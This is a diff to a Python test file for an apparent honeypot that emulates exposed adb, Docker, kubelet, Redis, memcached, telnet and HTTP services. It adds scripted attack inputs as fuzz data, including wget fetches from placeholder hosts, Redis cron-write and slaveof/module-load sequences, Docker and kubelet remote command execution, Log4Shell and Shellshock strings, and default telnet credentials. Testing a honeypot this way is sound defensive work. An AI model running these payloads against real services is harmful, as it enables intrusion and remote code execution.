@@ -13,22 +13,52 @@ from hypothesis import strategies as st
 from eudaemon.protocols import ROOMS, load
 from eudaemon.protocols._base import Ended, HalfClosed
 from eudaemon.protocols._front import Front
+from eudaemon.protocols.kubelet.node import node_of
 from eudaemon.testing.script import Table, visit
 from eudaemon.wire import Purse
 from eudaemon.world.host import Host
 from eudaemon.world.outside import Downloaded
 from eudaemon.world.seed import Seed
+from protocols.adb_client import CONNECT, frame
 
 HOST = Host.from_seed(Seed(b"test"))
 HELD_BYTES_MAX = 512 * 1024
+POD = node_of(HOST).pods[0]
+PLACE = f"{POD.namespace}/{POD.name}/{POD.container}".encode()
 
 # What leads a room through its stages, in order; each piece ends where a new stage begins.
 OPENINGS: dict[str, tuple[bytes, ...]] = {
+    "adb": (
+        CONNECT, frame(b"OPEN", 1, 0, b"sync:\0"), frame(b"WRTE", 1, 1, b"SEND\x09\0\0\0/data"),
+        frame(b"WRTE", 1, 1, b"/f,7DATA\x09\0\0\0abc")[:-2],
+        b"bc", frame(b"OPEN", 2, 0, b"shell:\0"),
+        frame(b"WRTE", 2, 2, b"wget http://a/b\r"), frame(b"OPEN", 3, 0, b"shell,v2,raw:\0"),
+        frame(b"WRTE", 3, 3, b"\0\x09\0\0\0id"),
+    ),
     "catchall": (b"cd /tmp || cd /var/run; ".ljust(70), b"echo a > b\n", b"wget http://198.51.100.7/x\n"),
+    "docker": (
+        b"POST /images/create?fromImage=alpine HTTP/1.0\r\nConnection: keep-alive\r\n\r\n",
+        b"POST /v1.41/containers/create HTTP/1.1\r\nHost: a\r\nContent-Length: 67\r\n\r\n", b'{"Image":"alpine",',
+        b'"Cmd":["sh","-c","wget http://192.0.2.9/x ; id"]}', b"GET /containers/json HTTP/1.1\r\nHost: a\r\n\r\n",
+    ),
     "front": (b"G", b"ET / HTTP/1.1\r\n"),
     "http": (
         b"POST /x ", b"HTTP/1.1\r\n", b"Host: a\r\nTransfer-Encoding: chunked\r\n", b"\r\n", b"3\r\n", b"a=b", b"\r\n",
         b"0\r\n", b"\r\n", b"POST /cgi-bin/x HTTP/1.1\r\nContent-Length: 5\r\n\r\n", b"a=$(i",
+    ),
+    "kubelet": (
+        b"GET /pods HTTP/1.1\r\nHost: a\r\n\r\n",
+        b"POST /run/%s HTTP/1.1\r\nHost: a\r\nContent-Length: 10\r\n\r\n" % PLACE, b"cmd=id+-un",
+        b"GET /exec/%s?command=sh&tty=1 HTTP/1.1\r\nHost: a\r\nSec-WebSocket-Key: a\r\n\r\n" % PLACE,
+        b"\x82\x8a\0\0\0\0\0", b"wget a/b\r",
+    ),
+    "memcached": (
+        b"get a b\r\n", b"set a 0 0 5\r\n", b"abc", b"de\r\n", b"\x80\x01\0\x01\x08\0\0\0\0\0\0\x0c" + bytes(12),
+        bytes(8) + b"kv", b"vv",
+    ),
+    "redis": (
+        b"*2\r\n", b"$3\r\nGET\r\n$5\r\n", b"abcde\r\n", b"config set dir /etc/cron.d\r\n", b"set x '* * * * * id'\r\n",
+        b"slaveof 192.0.2.9 1\r\nmodule load x\r\n", b"*2\r\n$11\r\nsystem.exec\r\n$15\r\nwget http://a/b\r\n",
     ),
     "telnet": (b"\xff\xfd\x01", b"root\r\n", b"xc3511\r\n", b"sh\n", b"echo -e '\\x41", b"'\n", b"wget http://a/b\n"),
 }  # fmt: skip
@@ -37,18 +67,27 @@ WORDS = [
     b"GET /shell?id HTTP/1.1\r\n\r\n", b"POST / HTTP/1.0\r\nContent-Length: 9\r\n\r\n", b"\r\n", b"\n", b"\0", b"\xff",
     b"\xff\xfa", b"\xff\xf0", b"Content-Length: 3\r\n", b"Transfer-Encoding: chunked\r\n", b"ff;x\r\n", b"0\r\n\r\n",
     b"root\r\n", b"wget http://192.0.2.9/x", b"`", b"$(", b"${jndi:ldap://a/b}", b"|sh\n", b"<<E\n", b"'", b'"',
-    b"() { :;};", b"exit\n",
+    b"() { :;};", b"exit\n", CONNECT, frame(b"OPEN", 7, 0, b"shell:wget http://192.0.2.9/x\0"),
+    frame(b"OPEN", 8, 0, b"sync:\0"), frame(b"WRTE", 8, 1, b"SEND\x07\0\0\0/data/fDATA\x03\0\0\0abc"),
+    b"*2\r\n", b"$3\r\nGET\r\n", b"$", b"config set dir /etc\r\n", b"set x 1\r\n", b"save\r\n", b"module load x\r\n",
+    b"slaveof 192.0.2.9 1\r\n", b"system.exec 'wget http://a/b'\r\n", frame(b"CLSE", 8, 1), frame(b"OKAY", 7, 1),
+    b"POST /images/create?fromImage=alpine HTTP/1.1\r\nHost: a\r\n\r\n", b"POST /build HTTP/1.1\r\nHost: a\r\n\r\n",
+    b"POST /containers/create HTTP/1.1\r\nHost: a\r\nContent-Length: 46\r\n\r\n",
+    b'{"Image":"alpine","Cmd":["wget","http://a/b"]}', b"POST /run/%s?cmd=wget+a/b HTTP/1.1\r\nHost: a\r\n\r\n" % PLACE,
+    b"GET /exec/%s?command=sh&tty=1 HTTP/1.1\r\nHost: a\r\nSec-WebSocket-Key: a\r\n\r\n" % PLACE,
+    b"\x82\x85\0\0\0\0\0id\r\n", b"set a 0 0 5\r\n", b"stats\r\n", b"\0\1\0\0\0\1\0\0stats\r\n",
+    b"\x80\x0b" + bytes(22), b"\0\1\0\0\0\1\0\0set a 0 0 1\r\n1\r\n",
 ]  # fmt: skip
 
 FRONT = "front"  # no room of its own: telnet and HTTP on one port
 NAMES = (*ROOMS, FRONT)
-SERVED = [(name, "tcp") for name in NAMES] + [("catchall", "udp")]
+SERVED = [(name, "tcp") for name in NAMES] + [("catchall", "udp"), ("memcached", "udp")]
 names = pytest.mark.parametrize("name", NAMES)
 bounded = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
 
 
 def talk(name: str, *, transport: str = "tcp", bytes_max: int = HELD_BYTES_MAX) -> Table:
-    given = visit(host=HOST, transport=transport, purse=Purse(bytes_max))
+    given = visit(host=HOST, transport=transport, purse=Purse(bytes_max), tls=name == "kubelet")
     if name == FRONT:
         return Table(Front(given, (load("telnet"), load("http")), load("catchall"))).open()
     return Table(load(name)(given)).open()
@@ -116,7 +155,7 @@ def test_every_byte_at_every_stage(name: str) -> None:
             table = talk(name)
             for piece in opening(name)[:stage]:
                 table.say(piece)
-            assert not table.fault, f"the opening is no fault: {table.fault}"
+            assert not table.over, f"the opening ends nothing: {table.fault}"
             table.say(bytes((value,)))
             table.say(bytes((value, 13, 10)))
             table.wait(30)
